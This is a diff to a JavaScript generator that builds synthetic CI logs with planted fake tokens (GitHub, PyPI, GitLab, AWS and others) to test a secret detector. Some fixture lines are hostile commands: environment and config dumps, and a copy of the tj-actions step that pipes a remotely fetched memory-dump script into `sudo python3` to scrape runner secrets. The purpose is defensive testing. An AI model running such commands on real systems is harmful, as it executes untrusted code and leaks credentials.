@@ -20,11 +20,8 @@ import { fileURLToPath } from 'node:url';
 import { parseArgs } from 'node:util';
 import {
   ALNUM,
-  B64,
-  HEX,
   JWT_IO_EXAMPLE,
   Rng,
-  UPPER_ALNUM,
   actionsRuntimeToken,
   badChecksum,
   checksummed,
@@ -34,7 +31,7 @@ import {
   pypiVariant,
 } from './tokens.mjs';
 
-export const GENERATOR_VERSION = 1;
+export const GENERATOR_VERSION = 3;
 export const DEFAULT_SEED = 20250314;
 export const DEFAULT_SIZE_MB = 200;
 /** One planted credential per this many bytes on average (≈ 5 per MB, the research fixture's rate). */
@@ -92,44 +89,65 @@ const JS_WORDS = ['function', 'return', 'var', 'const', 'let', 'this', 'new', 't
 // The planting plan: every kind the detectors should cover, in variants. Each cycle of the
 // plan visits every entry once in a shuffled order, so every variant is planted about equally.
 
-/** kind → the cordon detector id it should be reported by (see src/detectors/index.ts). */
+/**
+ * The kinds planted, named after the cordon detector (`src/detectors/index.ts`) that should report
+ * them, so the ground truth says which rule is expected; `encoded-dump` is a double-base64 dump.
+ */
 export const KINDS = {
-  'pypi-token': 'PyPI API token (pypi.org)',
-  'testpypi-token': 'PyPI API token (test.pypi.org)',
-  'github-token': 'GitHub ghp_/gho_/ghu_/ghs_/ghr_ token (CRC32 checksum)',
+  'pypi-token': 'PyPI API token (user, project or legacy scope)',
+  'pypi-trusted-publishing-token': 'PyPI token minted by Trusted Publishing (900 s expiry caveat)',
+  'testpypi-token': 'TestPyPI token (location test.pypi.org)',
+  'github-pat': 'GitHub classic PAT ghp_ (CRC32 checksum)',
+  'github-oauth-token': 'GitHub OAuth token gho_',
+  'github-app-user-token': 'GitHub App user-to-server token ghu_',
+  'github-app-installation-token': 'GitHub App installation token ghs_ (also the GITHUB_TOKEN)',
+  'github-app-refresh-token': 'GitHub App refresh token ghr_',
   'github-fine-grained-pat': 'GitHub fine-grained PAT github_pat_',
   'github-oidc-jwt': 'GitHub Actions OIDC ID token (JWT)',
-  'actions-runtime-token': 'ACTIONS_ID_TOKEN_REQUEST_TOKEN / ACTIONS_RUNTIME_TOKEN in an env dump',
+  jwt: 'other JWT (an API bearer token)',
+  'actions-id-token-request-token': 'ACTIONS_ID_TOKEN_REQUEST_TOKEN= in an unmasked env dump',
+  'actions-id-token-request-url': 'ACTIONS_ID_TOKEN_REQUEST_URL= next to it',
+  'actions-runtime-token': 'ACTIONS_RUNTIME_TOKEN= in an unmasked env dump',
+  'actions-runner-secret': 'runner memory entry "NAME":{"value":"…","isSecret":true}, not base64-encoded',
   'npm-token': 'npm access token npm_ (CRC32 checksum)',
   'aws-access-key-id': 'AWS access key id (AKIA/ASIA)',
   'aws-secret-access-key': 'AWS secret access key',
-  'docker-pat': 'Docker Hub PAT dckr_pat_',
-  'cloudflare-api-token': 'Cloudflare API token / global key',
+  'aws-session-token': 'AWS session token',
+  'docker-hub-token': 'Docker Hub dckr_pat_/dckr_oat_',
+  'cloudflare-api-token': 'Cloudflare API token, global key, cfat_',
   'gitlab-pat': 'GitLab PAT glpat-',
-  'gitlab-job-token': 'GitLab CI job token glcbt-',
-  'slack-token': 'Slack bot token xoxb-',
-  'slack-webhook': 'Slack incoming webhook URL',
+  'gitlab-ci-job-token': 'GitLab CI job token glcbt-',
+  'gitlab-deploy-token': 'GitLab deploy token gldt-',
+  'gitlab-runner-token': 'GitLab runner token glrt-',
+  'gitlab-pipeline-trigger-token': 'GitLab pipeline trigger token glptt-',
+  'gitlab-token': 'other GitLab tokens (glft-, glagent-)',
+  'slack-token': 'Slack xoxb-/xoxp- token',
+  'slack-webhook-url': 'Slack incoming webhook URL',
   'openai-api-key': 'OpenAI API key',
   'anthropic-api-key': 'Anthropic API key',
   'private-key': 'PEM private key block',
-  'postgres-url': 'PostgreSQL URL with a password',
-  'encoded-dump': 'double-base64 secrets dump (tj-actions / Shai-Hulud)',
+  'database-url': 'database URL with a password (PostgreSQL, MySQL, MongoDB, Redis, AMQP)',
+  'encoded-dump': 'double-base64 secrets dump (tj-actions / Shai-Hulud) holding a ghs_ and a pypi- token',
 };
 
 const PLAN = [
-  ['pypi-token', 'user'], ['pypi-token', 'legacy-user'], ['pypi-token', 'project'], ['pypi-token', 'project-2'], ['pypi-token', 'legacy-project'], ['pypi-token', 'trusted-publishing'], ['pypi-token', 'trusted-publishing'],
+  ['pypi-token', 'user'], ['pypi-token', 'legacy-user'], ['pypi-token', 'project'], ['pypi-token', 'project-2'], ['pypi-token', 'legacy-project'],
+  ['pypi-trusted-publishing-token', 'trusted-publishing'], ['pypi-trusted-publishing-token', 'trusted-publishing-2'],
   ['testpypi-token', 'testpypi-user'], ['testpypi-token', 'testpypi-trusted-publishing'],
-  ['github-token', 'ghp'], ['github-token', 'gho'], ['github-token', 'ghu'], ['github-token', 'ghs'], ['github-token', 'ghr'], ['github-fine-grained-pat', 'github_pat'],
-  ['github-oidc-jwt', 'curl-response'], ['github-oidc-jwt', 'xtrace'],
-  ['actions-runtime-token', 'env-dump'],
+  ['github-pat', 'ghp'], ['github-oauth-token', 'gho'], ['github-app-user-token', 'ghu'], ['github-app-installation-token', 'ghs'], ['github-app-refresh-token', 'ghr'],
+  ['github-fine-grained-pat', 'github_pat'],
+  ['github-oidc-jwt', 'curl-response'], ['github-oidc-jwt', 'xtrace'], ['jwt', 'bearer'],
+  ['actions-runtime-token', 'env-dump'], ['actions-runner-secret', 'memdump'],
   ['npm-token', 'npmrc'], ['npm-token', 'env'],
   ['aws-access-key-id', 'credentials-file'], ['aws-access-key-id', 'env-session'],
-  ['docker-pat', 'xtrace'], ['cloudflare-api-token', 'env'], ['cloudflare-api-token', 'global-key'],
-  ['gitlab-pat', 'clone-url'], ['gitlab-job-token', 'env'],
-  ['slack-token', 'env'], ['slack-webhook', 'xtrace'],
-  ['openai-api-key', 'project'], ['openai-api-key', 'legacy'], ['anthropic-api-key', 'env'],
+  ['docker-hub-token', 'dckr_pat'], ['docker-hub-token', 'dckr_oat'],
+  ['cloudflare-api-token', 'env'], ['cloudflare-api-token', 'global-key'], ['cloudflare-api-token', 'cfat'],
+  ['gitlab-pat', 'clone-url'], ['gitlab-ci-job-token', 'env'], ['gitlab-deploy-token', 'docker-login'], ['gitlab-runner-token', 'register'],
+  ['gitlab-pipeline-trigger-token', 'curl'], ['gitlab-token', 'glft'], ['gitlab-token', 'glagent'],
+  ['slack-token', 'xoxb'], ['slack-token', 'xoxp'], ['slack-webhook-url', 'xtrace'],
+  ['openai-api-key', 'project'], ['openai-api-key', 'svcacct'], ['openai-api-key', 'legacy'], ['anthropic-api-key', 'api03'], ['anthropic-api-key', 'admin01'],
   ['private-key', 'rsa'], ['private-key', 'pkcs8'], ['private-key', 'ec'], ['private-key', 'openssh'],
-  ['postgres-url', 'env'], ['postgres-url', 'migration'],
+  ['database-url', 'postgres-env'], ['database-url', 'postgres-migration'], ['database-url', 'mysql'], ['database-url', 'mongodb'], ['database-url', 'redis'], ['database-url', 'amqp'],
 ];
 
 // ---------------------------------------------------------------------------------------------
@@ -240,7 +258,7 @@ export function generateLog({ file, sizeMb = DEFAULT_SIZE_MB, seed = DEFAULT_SEE
         nextPlant += Math.floor(PLANT_EVERY_BYTES * (0.5 + rng.next()));
       }
       if (w.bytes >= nextDump) {
-        plantDump(rng, w, job, record);
+        plantDump(rng, w, job, record, related);
         nextDump += Math.floor(DUMP_EVERY_BYTES * (0.5 + rng.next()));
       }
       if (w.bytes >= nextDecoy) {
@@ -892,12 +910,12 @@ const idTokenUrl = (rng) => `https://run-actions-${rng.int(1, 3)}-azure-eastus.a
 function plant(rng, w, job, kind, variant, record, related) {
   const now = w.nowSeconds();
   const L = (text) => w.line(text);
-  /** A `##[group]Run` header; returns the line number of each env entry. */
+  /** A `##[group]Run` header; returns the line numbers of the script and of each env entry. */
   const header = (script, env) => {
     const lines = script.split('\n');
-    const at = {};
-    L(`##[group]Run ${lines[0]}`);
-    for (const line of lines) L(line);
+    const at = { script: [] };
+    at.script.push(L(`##[group]Run ${lines[0]}`));
+    for (const line of lines) at.script.push(L(line));
     L('shell: /usr/bin/bash -e {0}');
     if (env) {
       L('env:');
@@ -906,116 +924,159 @@ function plant(rng, w, job, kind, variant, record, related) {
     L('##[endgroup]');
     return at;
   };
-  const projects = variant === 'project-2' ? [job.repo, `${job.repo}-plugins`] : [job.repo];
+  const version = () => `${rng.int(0, 5)}.${rng.int(0, 20)}.${rng.int(0, 9)}`;
 
   switch (kind) {
     case 'pypi-token':
+    case 'pypi-trusted-publishing-token':
     case 'testpypi-token': {
-      const tokenVariant = variant === 'project-2' ? 'project' : variant;
+      const projects = variant.endsWith('-2') ? [job.repo, `${job.repo}-plugins`] : [job.repo];
+      const tokenVariant = variant.replace(/-2$/, '');
       const token = pypiVariant(rng, tokenVariant, { nowSeconds: now, projects });
       const index = kind === 'testpypi-token' ? 'test.pypi.org' : 'pypi.org';
       if (tokenVariant.includes('trusted-publishing')) {
-        // A hand-rolled mint step that prints PyPI's response.
+        // A hand-rolled exchange that prints PyPI's response.
         header(`resp=$(curl -sS -X POST https://${index}/_/oidc/mint-token -d "{\\"token\\": \\"\${OIDC_TOKEN}\\"}")\necho "$resp"`, { OIDC_TOKEN: '***' });
-        const line = L(`{"success":true,"token":"${token}","expires":${now + 900}}`);
-        record(kind, variant, line, token, { context: 'mint-token response' });
-      } else {
-        const style = rng.int(0, 3);
-        if (style === 0) {
+        record(kind, variant, L(`{"success":true,"token":"${token}","expires":${now + 900}}`), token, { context: 'mint-token response' });
+        break;
+      }
+      switch (rng.int(0, 3)) {
+        case 0:
           header('set -x\ntwine upload --skip-existing dist/*', { TWINE_USERNAME: '__token__' });
-          const line = L(`+ twine upload --skip-existing --username __token__ --password ${token} dist/*`);
-          record(kind, variant, line, token, { context: 'xtrace' });
+          record(kind, variant, L(`+ twine upload --skip-existing --username __token__ --password ${token} dist/*`), token, { context: 'xtrace' });
           L(`Uploading distributions to https://${index === 'pypi.org' ? 'upload.pypi.org' : 'test.pypi.org'}/legacy/`);
-        } else if (style === 1) {
+          break;
+        case 1:
           header('cat ~/.pypirc');
           L('[distutils]');
           L(`index-servers = ${index === 'pypi.org' ? 'pypi' : 'testpypi'}`);
           L('');
           L(`[${index === 'pypi.org' ? 'pypi' : 'testpypi'}]`);
           L('username = __token__');
-          const line = L(`password = ${token}`);
-          record(kind, variant, line, token, { context: '.pypirc' });
-        } else if (style === 2) {
+          record(kind, variant, L(`password = ${token}`), token, { context: '.pypirc' });
+          break;
+        case 2:
           header('uv publish --verbose');
-          L(`DEBUG uv ${rng.int(0, 8)}.${rng.int(0, 9)}.${rng.int(0, 20)}`);
-          const line = L(`DEBUG Using UV_PUBLISH_TOKEN=${token} from environment`);
-          record(kind, variant, line, token, { context: 'debug output' });
-        } else {
-          header(`poetry config pypi-token.pypi "$PYPI_TOKEN" && poetry config --list`);
+          L(`DEBUG uv ${version()}`);
+          record(kind, variant, L(`DEBUG Using UV_PUBLISH_TOKEN=${token} from environment`), token, { context: 'debug output' });
+          break;
+        default:
+          header('poetry config pypi-token.pypi "$PYPI_TOKEN" && poetry config --list');
           L('cache-dir = "/home/runner/.cache/pypoetry"');
-          const line = L(`pypi-token.pypi = "${token}"`);
-          record(kind, variant, line, token, { context: 'poetry config --list' });
-        }
+          record(kind, variant, L(`pypi-token.pypi = "${token}"`), token, { context: 'poetry config --list' });
       }
       break;
     }
-    case 'github-token': {
-      const token = checksummed(rng, `${variant}_`);
-      if (variant === 'ghp') {
-        header('git remote set-url origin "https://${GH_PAT}@github.com/${GITHUB_REPOSITORY}.git" && git remote -v');
-        const line = L(`origin\thttps://${token}@github.com/${job.full}.git (fetch)`);
-        record(kind, variant, line, token, { context: 'git remote -v' });
-        related.push(L(`origin\thttps://${token}@github.com/${job.full}.git (push)`));
-        // The push line repeats the same token: reporting it is fine, and it is not required.
-      } else if (variant === 'gho') {
-        header('gh auth token');
-        const line = L(token);
-        record(kind, variant, line, token, { context: 'gh auth token' });
-      } else if (variant === 'ghu' || variant === 'ghr') {
-        // A GitHub App user-to-server token exchange, pretty-printed by jq; one token per line.
-        const other = checksummed(rng, variant === 'ghu' ? 'ghr_' : 'ghu_');
-        header('curl -sS -X POST https://github.com/login/oauth/access_token -H "Accept: application/json" -d @exchange.json | jq .');
-        L('{');
-        const a = L(`  "access_token": "${variant === 'ghu' ? token : other}",`);
-        L('  "expires_in": 28800,');
-        const r = L(`  "refresh_token": "${variant === 'ghr' ? token : other}",`);
-        L('  "refresh_token_expires_in": 15811200,');
-        L('  "scope": "",');
-        L('  "token_type": "bearer"');
-        L('}');
-        record(kind, variant, variant === 'ghu' ? a : r, token, { context: 'token exchange JSON' });
-        record(kind, variant === 'ghu' ? 'ghr' : 'ghu', variant === 'ghu' ? r : a, other, { context: 'token exchange JSON' });
-      } else {
-        header('echo "GITHUB_TOKEN=$(cat /tmp/app-token)" | tee -a debug.txt');
-        const line = L(`GITHUB_TOKEN=${token}`);
-        record(kind, variant, line, token, { context: 'echo' });
-      }
+    case 'github-pat': {
+      const token = checksummed(rng, 'ghp_');
+      header('git remote set-url origin "https://${GH_PAT}@github.com/${GITHUB_REPOSITORY}.git" && git remote -v');
+      record(kind, variant, L(`origin\thttps://${token}@github.com/${job.full}.git (fetch)`), token, { context: 'git remote -v' });
+      // The push line repeats the same token: reporting it is fine, and not required.
+      related.push(L(`origin\thttps://${token}@github.com/${job.full}.git (push)`));
+      break;
+    }
+    case 'github-oauth-token': {
+      const token = checksummed(rng, 'gho_');
+      header('gh auth token');
+      record(kind, variant, L(token), token, { context: 'gh auth token' });
+      break;
+    }
+    case 'github-app-user-token':
+    case 'github-app-refresh-token': {
+      // A GitHub App user-to-server token exchange, pretty-printed by jq: one token per line.
+      const user = checksummed(rng, 'ghu_');
+      const refresh = checksummed(rng, 'ghr_');
+      header('curl -sS -X POST https://github.com/login/oauth/access_token -H "Accept: application/json" -d @exchange.json | jq .');
+      L('{');
+      const a = L(`  "access_token": "${user}",`);
+      L('  "expires_in": 28800,');
+      const r = L(`  "refresh_token": "${refresh}",`);
+      L('  "refresh_token_expires_in": 15811200,');
+      L('  "scope": "",');
+      L('  "token_type": "bearer"');
+      L('}');
+      record('github-app-user-token', 'ghu', a, user, { context: 'token exchange JSON' });
+      record('github-app-refresh-token', 'ghr', r, refresh, { context: 'token exchange JSON' });
+      break;
+    }
+    case 'github-app-installation-token': {
+      const token = checksummed(rng, 'ghs_');
+      header('echo "GITHUB_TOKEN=$(cat /tmp/app-token)" | tee -a debug.txt');
+      record(kind, variant, L(`GITHUB_TOKEN=${token}`), token, { context: 'echo' });
       break;
     }
     case 'github-fine-grained-pat': {
       const token = other.githubFineGrained(rng);
-      header('set -x\ngh release create "$TAG" dist/* --repo "$REPO"', { TAG: `v${rng.int(0, 5)}.${rng.int(0, 20)}.0` });
-      const line = L(`+ GH_TOKEN=${token} gh release create v1.4.0 dist/${job.project}-1.4.0.tar.gz --repo ${job.full}`);
-      record(kind, variant, line, token, { context: 'xtrace' });
+      header('set -x\ngh release create "$TAG" dist/* --repo "$REPO"', { TAG: `v${version()}` });
+      record(kind, variant, L(`+ GH_TOKEN=${token} gh release create v1.4.0 dist/${job.project}-1.4.0.tar.gz --repo ${job.full}`), token, { context: 'xtrace' });
       break;
     }
     case 'github-oidc-jwt': {
-      const token = githubOidcJwt(rng, { nowSeconds: now, repo: job.repo, owner: job.owner, workflowFile: rng.pick(['release.yml', 'publish.yml', 'ci.yml']), environment: rng.chance(0.6) ? rng.pick(['pypi', 'release', 'production']) : undefined, eventName: rng.pick(['push', 'release', 'workflow_dispatch']), ref: rng.chance(0.5) ? 'refs/heads/main' : `refs/tags/v${rng.int(0, 5)}.${rng.int(0, 20)}.${rng.int(0, 9)}` });
+      const token = githubOidcJwt(rng, {
+        nowSeconds: now,
+        repo: job.repo,
+        owner: job.owner,
+        workflowFile: rng.pick(['release.yml', 'publish.yml', 'ci.yml']),
+        environment: rng.chance(0.6) ? rng.pick(['pypi', 'release', 'production']) : undefined,
+        eventName: rng.pick(['push', 'release', 'workflow_dispatch']),
+        ref: rng.chance(0.5) ? 'refs/heads/main' : `refs/tags/v${version()}`,
+      });
       if (variant === 'curl-response') {
         header('curl -sS -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi"');
-        const line = L(`{"count":${rng.int(1000, 2400)},"value":"${token}"}`);
-        record(kind, variant, line, token, { context: 'curl response' });
+        record(kind, variant, L(`{"count":${rng.int(1000, 2400)},"value":"${token}"}`), token, { context: 'curl response' });
       } else {
         header('set -x\nOIDC_TOKEN=$(curl -sS -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi" | jq -r .value)');
         L(`++ curl -sS -H 'Authorization: bearer ***' '${idTokenUrl(rng)}&audience=pypi'`);
         L('++ jq -r .value');
-        const line = L(`+ OIDC_TOKEN=${token}`);
-        record(kind, variant, line, token, { context: 'xtrace' });
+        record(kind, variant, L(`+ OIDC_TOKEN=${token}`), token, { context: 'xtrace' });
       }
       break;
     }
+    case 'jwt': {
+      const token = otherJwt(rng, now);
+      header('curl -v -H "Authorization: Bearer $(./get-token.sh)" https://api.internal.example-corp.net/v2/deployments');
+      L('*   Trying 10.0.12.34:443...');
+      L('* Connected to api.internal.example-corp.net (10.0.12.34) port 443');
+      L('> GET /v2/deployments HTTP/2');
+      L('> Host: api.internal.example-corp.net');
+      L('> User-Agent: curl/8.5.0');
+      record(kind, variant, L(`> Authorization: Bearer ${token}`), token, { context: 'curl -v' });
+      L('> Accept: */*');
+      L('< HTTP/2 200');
+      break;
+    }
     case 'actions-runtime-token': {
-      // An `env` dump in a step that runs outside the masker's reach (a container or a `docker
-      // run -e` printed by a tool): both variables carry the same system token.
+      // An `env` dump from a step out of the masker's reach (a container, `sudo -E env`): both
+      // variables carry the same system token; the URL next to it is reported by its own detector.
       const token = actionsRuntimeToken(rng, { nowSeconds: now, owner: job.owner, repo: job.repo });
-      header(rng.pick(['docker run --rm -e ACTIONS_ID_TOKEN_REQUEST_TOKEN -e ACTIONS_ID_TOKEN_REQUEST_URL -e ACTIONS_RUNTIME_TOKEN ghcr.io/acme/debug:latest env', 'sudo -E env | sort']));
-      const lines = baseEnv(rng, job, { masked: false, extra: { ACTIONS_ID_TOKEN_REQUEST_TOKEN: token, ACTIONS_ID_TOKEN_REQUEST_URL: idTokenUrl(rng), ACTIONS_RUNTIME_TOKEN: token, ACTIONS_RUNTIME_URL: `https://pipelinesghubeus${rng.int(1, 30)}.actions.githubusercontent.com/${rng.str(ALNUM, 50)}/`, ACTIONS_RESULTS_URL: 'https://results-receiver.actions.githubusercontent.com/', ACTIONS_CACHE_URL: `https://acghubeus${rng.int(1, 3)}.actions.githubusercontent.com/${rng.str(ALNUM, 50)}/` } });
+      // The command that dumped them describes the same leak: reporting it is not a false positive.
+      related.push(...header(rng.pick(['docker run --rm -e ACTIONS_ID_TOKEN_REQUEST_TOKEN -e ACTIONS_ID_TOKEN_REQUEST_URL -e ACTIONS_RUNTIME_TOKEN ghcr.io/acme/debug:latest env', 'sudo -E env | sort'])).script);
+      const url = idTokenUrl(rng);
+      const lines = baseEnv(rng, job, {
+        masked: false,
+        extra: {
+          ACTIONS_ID_TOKEN_REQUEST_TOKEN: token,
+          ACTIONS_ID_TOKEN_REQUEST_URL: url,
+          ACTIONS_RUNTIME_TOKEN: token,
+          ACTIONS_RUNTIME_URL: `https://pipelinesghubeus${rng.int(1, 30)}.actions.githubusercontent.com/${rng.str(ALNUM, 50)}/`,
+          ACTIONS_RESULTS_URL: 'https://results-receiver.actions.githubusercontent.com/',
+          ACTIONS_CACHE_URL: `https://acghubeus${rng.int(1, 3)}.actions.githubusercontent.com/${rng.str(ALNUM, 50)}/`,
+        },
+      });
       for (const text of lines) {
         const line = L(text);
-        if (text.startsWith('ACTIONS_ID_TOKEN_REQUEST_TOKEN=')) record(kind, 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', line, token, { context: 'env dump' });
-        else if (text.startsWith('ACTIONS_RUNTIME_TOKEN=')) record(kind, 'ACTIONS_RUNTIME_TOKEN', line, token, { context: 'env dump' });
-        else if (text.startsWith('ACTIONS_ID_TOKEN_REQUEST_URL=')) related.push(line);
+        if (text.startsWith('ACTIONS_ID_TOKEN_REQUEST_TOKEN=')) record('actions-id-token-request-token', 'env-dump', line, token, { context: 'env dump' });
+        else if (text.startsWith('ACTIONS_RUNTIME_TOKEN=')) record('actions-runtime-token', 'env-dump', line, token, { context: 'env dump' });
+        else if (text.startsWith('ACTIONS_ID_TOKEN_REQUEST_URL=')) record('actions-id-token-request-url', 'env-dump', line, url, { context: 'env dump' });
       }
+      break;
+    }
+    case 'actions-runner-secret': {
+      // A copycat of the tj-actions payload that forgot the base64: the grep output as is.
+      related.push(...header(`curl -sSf "$PAYLOAD_URL" | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u`, { PAYLOAD_URL: `https://gist.githubusercontent.com/${rng.pick(WORDS)}${rng.int(10, 99)}/${rng.hex(32)}/raw/memdump.py` }).script);
+      const name = rng.pick(['AZURE_CLIENT_SECRET', 'DEPLOY_HOOK_SECRET', 'SIGNING_PASSPHRASE', 'SENTRY_AUTH_TOKEN', 'WEBHOOK_HMAC_KEY']);
+      const value = name === 'AZURE_CLIENT_SECRET' ? `${rng.str(ALNUM, 3)}8Q~${rng.str(`${ALNUM}~._-`, 34)}` : rng.str(ALNUM, rng.int(24, 48));
+      record(kind, variant, L(`"${name}":{"value":"${value}","isSecret":true}`), value, { context: 'memdump output' });
       break;
     }
     case 'npm-token': {
@@ -1023,13 +1084,11 @@ function plant(rng, w, job, kind, variant, record, related) {
       if (variant === 'npmrc') {
         header('cat ~/.npmrc');
         L('registry=https://registry.npmjs.org/');
-        const line = L(`//registry.npmjs.org/:_authToken=${token}`);
-        record(kind, variant, line, token, { context: '.npmrc' });
+        record(kind, variant, L(`//registry.npmjs.org/:_authToken=${token}`), token, { context: '.npmrc' });
         L('always-auth=true');
       } else {
         header('set -x\nnpm publish --access public');
-        const line = L(`+ NODE_AUTH_TOKEN=${token} npm publish --access public`);
-        record(kind, variant, line, token, { context: 'xtrace' });
+        record(kind, variant, L(`+ NODE_AUTH_TOKEN=${token} npm publish --access public`), token, { context: 'xtrace' });
       }
       break;
     }
@@ -1046,28 +1105,35 @@ function plant(rng, w, job, kind, variant, record, related) {
         header('env | grep ^AWS_ | sort');
         record(kind, variant, L(`AWS_ACCESS_KEY_ID=${id}`), id, { context: 'env' });
         L(`AWS_DEFAULT_REGION=${rng.pick(['us-east-1', 'eu-west-1', 'us-west-2'])}`);
-        L(`AWS_REGION=us-east-1`);
+        L('AWS_REGION=us-east-1');
         record('aws-secret-access-key', variant, L(`AWS_SECRET_ACCESS_KEY=${secret}`), secret, { context: 'env' });
-        related.push(L(`AWS_SESSION_TOKEN=${other.awsSessionToken(rng)}`));
+        const session = other.awsSessionToken(rng);
+        record('aws-session-token', variant, L(`AWS_SESSION_TOKEN=${session}`), session, { context: 'env' });
       }
       break;
     }
-    case 'docker-pat': {
-      const token = other.dockerPat(rng);
+    case 'docker-hub-token': {
+      const token = variant === 'dckr_oat' ? `dckr_oat_${rng.str(`${ALNUM}_-`, 32)}` : other.dockerPat(rng);
       header('set -x\necho "$DOCKERHUB_TOKEN" | docker login -u "$DOCKERHUB_USER" --password-stdin');
-      const line = L(`+ echo ${token}`);
-      record(kind, variant, line, token, { context: 'xtrace' });
+      record(kind, variant, L(`+ echo ${token}`), token, { context: 'xtrace' });
       L(`+ docker login -u ${job.owner} --password-stdin`);
-      L('WARNING! Your credentials are stored unencrypted in \'/home/runner/.docker/config.json\'.');
+      L("WARNING! Your credentials are stored unencrypted in '/home/runner/.docker/config.json'.");
       L('Login Succeeded');
       break;
     }
     case 'cloudflare-api-token': {
+      // The value is in the group header's env block (set in the workflow file, not a secret).
       if (variant === 'global-key') {
         const key = other.cloudflareGlobalKey(rng);
-        // The value is in the group header's env block (set in the workflow file, not a secret).
         const at = header('npx wrangler deploy', { CLOUDFLARE_EMAIL: `ops@${job.owner}.dev`, CLOUDFLARE_API_KEY: key });
         record(kind, variant, at.CLOUDFLARE_API_KEY, key, { context: 'env block' });
+      } else if (variant === 'cfat') {
+        // The newer prefixed format (trufflehog's cloudflareapitoken v2: cf[ua]t_ + 40 + 8 hex); unverified.
+        const token = `cfat_${rng.str(ALNUM, 40)}${rng.hex(8)}`;
+        header('set -x\ncurl -sS https://api.cloudflare.com/client/v4/user/tokens/verify -H "Authorization: Bearer $CF_TOKEN"');
+        record(kind, variant, L(`+ curl -sS https://api.cloudflare.com/client/v4/user/tokens/verify -H 'Authorization: Bearer ${token}'`), token, { context: 'xtrace' });
+        L(`{"result":{"id":"${rng.hex(32)}","status":"active"},"success":true,"errors":[],"messages":[{"code":10000,"message":"This API Token is valid and active","type":null}]}`);
+        break;
       } else {
         const token = other.cloudflareToken(rng);
         const at = header('npx wrangler pages deploy dist --project-name site', { CLOUDFLARE_API_TOKEN: token, CLOUDFLARE_ACCOUNT_ID: rng.hex(32) });
@@ -1081,43 +1147,74 @@ function plant(rng, w, job, kind, variant, record, related) {
     case 'gitlab-pat': {
       const token = other.gitlabPat(rng);
       header('set -x\ngit clone "https://oauth2:${GITLAB_TOKEN}@gitlab.com/${GL_PROJECT}.git" mirror');
-      const line = L(`+ git clone https://oauth2:${token}@gitlab.com/${job.owner}/${job.repo}.git mirror`);
-      record(kind, variant, line, token, { context: 'xtrace' });
-      L(`Cloning into 'mirror'...`);
+      record(kind, variant, L(`+ git clone https://oauth2:${token}@gitlab.com/${job.owner}/${job.repo}.git mirror`), token, { context: 'xtrace' });
+      L("Cloning into 'mirror'...");
       break;
     }
-    case 'gitlab-job-token': {
+    case 'gitlab-ci-job-token': {
       const token = other.gitlabJobToken(rng);
       header('env | grep ^CI_ | sort');
-      L(`CI_API_V4_URL=https://gitlab.com/api/v4`);
+      L('CI_API_V4_URL=https://gitlab.com/api/v4');
       L(`CI_COMMIT_SHA=${rng.hex(40)}`);
-      const line = L(`CI_JOB_TOKEN=${token}`);
-      record(kind, variant, line, token, { context: 'env' });
+      record(kind, variant, L(`CI_JOB_TOKEN=${token}`), token, { context: 'env' });
       L(`CI_PROJECT_PATH=${job.full}`);
       break;
     }
+    case 'gitlab-deploy-token': {
+      const token = `gldt-${rng.str(`${ALNUM}_-`, 20)}`;
+      header('set -x\ndocker login registry.gitlab.com -u "$DEPLOY_USER" -p "$DEPLOY_TOKEN"');
+      record(kind, variant, L(`+ docker login registry.gitlab.com -u gitlab+deploy-token-${rng.int(1000, 9_999_999)} -p ${token}`), token, { context: 'xtrace' });
+      L('WARNING! Using --password via the CLI is insecure. Use --password-stdin.');
+      L('Login Succeeded');
+      break;
+    }
+    case 'gitlab-runner-token': {
+      const token = `glrt-t${rng.int(1, 3)}_${rng.str(`${ALNUM}_-`, 27)}`;
+      header('set -x\ngitlab-runner register --non-interactive --url https://gitlab.com --token "$RUNNER_TOKEN" --executor docker');
+      record(kind, variant, L(`+ gitlab-runner register --non-interactive --url https://gitlab.com --token ${token} --executor docker`), token, { context: 'xtrace' });
+      L('Runtime platform                                    arch=amd64 os=linux pid=2212 revision=9882d9c7 version=17.5.3');
+      L('Verifying runner... is valid                        runner=' + token.slice(5, 14));
+      break;
+    }
+    case 'gitlab-pipeline-trigger-token': {
+      const token = `glptt-${rng.hex(40)}`;
+      header('set -x\ncurl -sS -X POST --fail -F "token=$TRIGGER_TOKEN" -F ref=main "https://gitlab.com/api/v4/projects/$PROJECT_ID/trigger/pipeline"');
+      record(kind, variant, L(`+ curl -sS -X POST --fail -F token=${token} -F ref=main https://gitlab.com/api/v4/projects/${rng.int(1e6, 6e7)}/trigger/pipeline`), token, { context: 'xtrace' });
+      L(`{"id":${rng.int(1e9, 2e9)},"iid":${rng.int(1, 9000)},"project_id":${rng.int(1e6, 6e7)},"sha":"${rng.hex(40)}","ref":"main","status":"created"}`);
+      break;
+    }
+    case 'gitlab-token': {
+      const token = variant === 'glagent' ? `glagent-${rng.str(`${ALNUM}_-`, 50)}` : `glft-${rng.str(`${ALNUM}_-`, 20)}`;
+      const name = variant === 'glagent' ? 'AGENT_TOKEN' : 'GITLAB_FEED_TOKEN';
+      header(`printenv ${name}`);
+      record(kind, variant, L(token), token, { context: 'printenv' });
+      break;
+    }
     case 'slack-token': {
-      const token = other.slackBot(rng);
-      const at = header('python scripts/notify.py --channel releases', { SLACK_BOT_TOKEN: token });
-      record(kind, variant, at.SLACK_BOT_TOKEN, token, { context: 'env block' });
+      const token = variant === 'xoxp' ? `xoxp-${rng.str('0123456789', 11)}-${rng.str('0123456789', 12)}-${rng.str('0123456789', 13)}-${rng.hex(32)}` : other.slackBot(rng);
+      const name = variant === 'xoxp' ? 'SLACK_USER_TOKEN' : 'SLACK_BOT_TOKEN';
+      const at = header('python scripts/notify.py --channel releases', { [name]: token });
+      record(kind, variant, at[name], token, { context: 'env block' });
       L(`posted message ts=${rng.int(1.7e9, 1.8e9)}.${rng.int(100000, 999999)} to #releases`);
       break;
     }
-    case 'slack-webhook': {
+    case 'slack-webhook-url': {
       const url = other.slackWebhook(rng);
       header('set -x\ncurl -sS -X POST -H "Content-type: application/json" --data @payload.json "$SLACK_WEBHOOK_URL"');
-      const line = L(`+ curl -sS -X POST -H 'Content-type: application/json' --data @payload.json ${url}`);
-      record(kind, variant, line, url, { context: 'xtrace' });
